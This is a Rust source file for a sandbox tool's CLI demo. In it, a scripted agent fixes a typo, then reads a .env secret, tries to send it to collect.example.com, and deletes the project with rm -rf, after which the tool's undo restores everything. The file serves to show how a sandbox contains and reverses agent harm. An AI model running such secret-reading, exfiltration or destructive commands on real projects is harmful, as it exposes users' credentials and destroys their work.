//! `haft demo`: an agent works on a sample project, does harm, and everything it did is undone. The model plays a script; the loop, the
//! calls, the sandbox and the undo are the real ones.

use std::collections::BTreeMap;
use std::io::IsTerminal;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use haft_agent::{AgentRun, LoopEvent, RunObserver, RunParts, RunSettings, RunStop};
use haft_files::{is_directory, names_in, read_named, write_private};
use haft_model::{CallArguments, ContentPart, ModelEvent, ScriptModel, ToolCall, ToolResult};
use haft_runtime::{CallOptions, Runtime, UndoTarget};
use haft_tool::{Call, Cancel, ToolError, Value, json};

use super::exit::CliExit;
use super::sample::SampleProject;
use super::screen::{self, BAD, BOLD, FAINT, GOOD, NAME, styled};
use super::{CommandResult, terminal};

/// What stands in the file that no command may read.
const SECRET: &str = "sk-demo-0123456789";
/// Where a project keeps such things.
const SECRET_FILE: &str = ".env";
/// The sample project.
const FILES: [(&str, &str); 3] = [
    ("src/greet.sh", "# Greets by name.\ngreet() {\n    echo \"Helo, $1!\"\n}\n"),
    (
        "tests/run.sh",
        ". ./src/greet.sh\n[ \"$(greet world)\" = 'Hello, world!' ] && echo 'ok: greets the world' || { echo 'FAILED'; exit 1; }\n",
    ),
    ("README.md", "# Greeter\n\nA sample project.\n"),
];
const PROMPT: &str = "The greeting is misspelt. Fix it and run the tests.";
/// How long each step stays before the next one, on a terminal.
const STEP_TIME: Duration = Duration::from_millis(700);
/// Lines of a result that are shown.
const MAX_RESULT_LINES: usize = 8;
const MAX_FILE_BYTES: u64 = 1 << 20;
/// Entries of a directory that are compared.
const MAX_NAMES: usize = 1_000;

pub(super) fn run() -> CommandResult {
    let sample = SampleProject::new("demo")?;
    let workspace = sample.runtime.workspace().to_owned();
    let cancel = Cancel::new();
    terminal::cancel_on_signal(&cancel, false)?;
    // The project is made in another session, so that undoing the agent's does not touch it.
    make_project(&sample.sibling("sample")?, &cancel)?;
    let before = tree(&workspace)?;
    screen::out(&styled(BOLD, "An agent works in a sample project. Its calls are scoped and recorded.\n\n"));
    screen::out(&format!("{} {PROMPT}\n", styled(NAME, ">")));

    let model = ScriptModel::parse(&script(&workspace))
        .map_err(|error| ToolError::internal(format!("the script of the demo: {error}")))?;
    let parts = RunParts::new(sample.runtime.clone(), Arc::new(model))?;
    let session = parts.session.clone();
    let mut agent = AgentRun::start(parts, RunSettings::default(), Vec::new())?;
    let mut view =
        DemoView { workspace: workspace.clone(), cancel: cancel.clone(), text: String::new(), leaked: false };
    let report = agent.say(vec![ContentPart::text(PROMPT)], &mut view, &cancel)?;
    match &report.stop {
        RunStop::Done => {}
        RunStop::Interrupted => return Ok(CliExit::Interrupted),
        stop => {
            screen::error(&stop.explanation().unwrap_or_default());
            return Ok(CliExit::Failed);
        }
    }
    if view.leaked {
        return Err(ToolError::internal("a command read the secret"));
    }

    screen::out(&styled(BOLD, "\nNow everything that the agent did is undone, without git:\n\n"));
    pause(&cancel);
    let preview = sample.runtime.undo_preview(&UndoTarget::Session(session))?;
    screen::out(&format!("{} haft undo --session …\n", styled(NAME, "$")));
    let options = CallOptions { cancel: cancel.clone(), ..CallOptions::default() };
    let undone = terminal::wait(&cancel, sample.runtime.undo(&preview, false, options))??;
    screen::out(&format!("    {}\n", screen::sanitize(&undone.output.as_text())));
    if tree(&workspace)? != before {
        return Err(ToolError::internal("the project is not as it was before"));
    }
    let (count, bytes) = (before.len() as u64, before.values().map(Vec::len).sum::<usize>() as u64);
    let same =
        format!("The project is byte for byte as before: {}, {bytes} bytes.", screen::count(count, "file"));
    screen::out(&format!(
        "\n{}\n{}\n",
        styled(GOOD, &same),
        styled(FAINT, "Next, in a project of yours: haft, or haft sandbox CMD; then haft undo"),
    ));
    Ok(CliExit::Done)
}

/// Writes the sample project, and finds out whether commands can be run here.
fn make_project(runtime: &Runtime, cancel: &Cancel) -> Result<(), ToolError> {
    let call = |number: usize, tool: &str, arguments: Value| {
        let options = CallOptions { cancel: cancel.clone(), ..CallOptions::default() };
        let result = runtime.run_blocking(Call::new(format!("sample_{number}"), tool, arguments), options);
        match result.output.error_kind {
            Some(kind) => Err(ToolError::new(kind, result.output.as_text())),
            None => Ok(()),
        }
    };
    for (number, (name, content)) in (1..).zip(FILES) {
        let path = runtime.workspace().join(name);
        call(number, "Write", json!({"file_path": path, "content": content}))?;
    }
    write_private(&runtime.workspace().join(SECRET_FILE), format!("API_KEY={SECRET}\n").as_bytes())?;
    call(FILES.len() + 1, "Bash", json!({"command": "true"}))
}

/// What the model says and calls, one answer per line.
fn script(workspace: &Path) -> String {
    let greeting = workspace.join("src/greet.sh");
    let call = |name: &str, arguments: Value| json!([{"name": name, "arguments": arguments}]);
    let bash = |command: &str| call("Bash", json!({"command": command}));
    let answers = [
        json!({"text": "I look for the greeting.",
            "calls": call("Grep", json!({"pattern": "Helo", "output_mode": "content"}))}),
        json!({"expect": {"contains": "greet.sh"}, "calls": call("Read", json!({"file_path": greeting}))}),
        json!({"expect": {"contains": "Helo"}, "calls": call("Edit",
            json!({"file_path": greeting, "old_string": "Helo", "new_string": "Hello"}))}),
        json!({"expect": {"is_error": false}, "text": "Now the tests, in the sandbox.",
            "calls": bash("sh tests/run.sh")}),
        json!({"expect": {"contains": "ok: greets the world"},
            "text": "The tests pass. Now the harm: a secret is to be read and sent away.",
            "calls": bash(&format!("cat {SECRET_FILE}"))}),
        json!({"calls": call("WebFetch",
            json!({"url": "https://collect.example.com/?from=greeter", "prompt": "Send what you know."}))}),
        json!({"expect": {"is_error": true}, "text": "Both were refused. Then the project is deleted.",
            "calls": bash("rm -rf src tests README.md; ls -A")}),
        json!({"expect": {"is_error": false}, "text": "The project is gone."}),
    ];
    answers.iter().map(|answer| format!("{answer}\n")).collect()
}

/// The files below a directory with their contents.
fn tree(root: &Path) -> Result<BTreeMap<PathBuf, Vec<u8>>, ToolError> {
    let (mut files, mut directories) = (BTreeMap::new(), vec![root.to_owned()]);
    while let Some(directory) = directories.pop() {
        for name in names_in(&directory, MAX_NAMES) {
            let path = directory.join(name);
            if is_directory(&path).is_ok_and(|is_directory| is_directory) {
                directories.push(path);
            } else {
                let content = read_named(&path, MAX_FILE_BYTES)?;
                files.insert(path, content);
            }
        }
    }
    Ok(files)
}

/// Waits on a terminal, so that a person can follow.
fn pause(cancel: &Cancel) {
    if std::io::stdout().is_terminal() {
        cancel.wait(STEP_TIME);
    }
}

/// Prints what the agent says and does.
struct DemoView {
    workspace: PathBuf,
    cancel: Cancel,
    /// What the agent says and is not printed yet.
    text: String,
    /// Whether a result contained the secret.
    leaked: bool,
}

impl DemoView {
    fn end_text(&mut self) {
        let text = std::mem::take(&mut self.text);
        if !text.is_empty() {
            screen::out(&format!("{}\n", styled(BOLD, &text)));
        }
    }

    fn call(&self, call: &ToolCall) {
        let text = match &call.arguments {
            CallArguments::Object(object) => object.values().find_map(Value::as_str).unwrap_or_default(),
            CallArguments::Invalid(text) => text,
        };
        let text = Path::new(text).strip_prefix(&self.workspace).ok().and_then(Path::to_str).unwrap_or(text);
        screen::out(&format!("{} {}\n", styled(NAME, &call.name), screen::escape(text)));
        pause(&self.cancel);
    }

    fn result(&mut self, result: &ToolResult) {
        let text = result.text();
        self.leaked |= text.contains(SECRET);
        let style = if result.is_error { BAD } else { FAINT };
        for line in text.lines().take(MAX_RESULT_LINES) {
            screen::out(&format!("    {}\n", styled(style, &screen::sanitize(line))));
        }
        pause(&self.cancel);
    }
}

impl RunObserver for DemoView {
    fn on_event(&mut self, event: &LoopEvent) {
        match event {
            LoopEvent::Model(ModelEvent::Text { delta }) => self.text.push_str(delta),
            LoopEvent::Answered { .. } => self.end_text(),
            LoopEvent::CallStarted(call) => {
                self.end_text();
                self.call(call);
            }
            LoopEvent::CallFinished { result, .. } => self.result(result),
            _ => {}
        }
    }
}
